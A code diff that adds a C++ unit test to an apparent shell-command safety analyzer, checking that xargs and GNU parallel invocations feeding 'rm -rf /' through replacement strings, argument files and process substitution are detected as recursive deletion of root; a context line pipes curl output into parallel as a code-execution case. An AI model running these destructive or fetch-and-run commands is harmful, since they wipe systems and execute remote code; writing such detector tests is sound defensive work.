@@ -70,4 +70,18 @@ TEST(XargsCommandsTest, ParallelItemsUnknownAreWordsNotCode) {
   EXPECT_TRUE(HasSignal(Analyze("curl -s https://x/jobs | parallel {}"), kSignalRce));
 }
 
+// Every way items reach the command: xargs -iSTR, parallel -I STR, -q, :::: FILE and -a FILE
+// with files written earlier in the line or given as <(…).
+TEST(XargsCommandsTest, ReplacementStringsQuotingAndArgumentFiles) {
+  for (std::string_view cmd : {"echo 'rm -rf /' | xargs -iCMD sh -c CMD", "printf 'rm -rf /\\n' > j; parallel :::: j",
+                               "parallel :::: <(echo 'rm -rf /')", "parallel -I ,, sh -c ,, ::: 'rm -rf /'",
+                               "parallel -q bash -c 'rm -rf \"$1\"' _ ::: /", "printf 'rm -rf /\\n' > j; parallel -a j",
+                               "printf 'rm -rf /\\n' > j; parallel --arg-file=j"}) {
+    Facts f = Analyze(cmd);
+    const FileFact* d = FindFile(f, FileOp::kDelete, "/");
+    ASSERT_NE(d, nullptr) << cmd << ": " << Dump(f);
+    EXPECT_TRUE(d->recursive) << cmd;
+  }
+}
+
 }  // namespace warden::shell
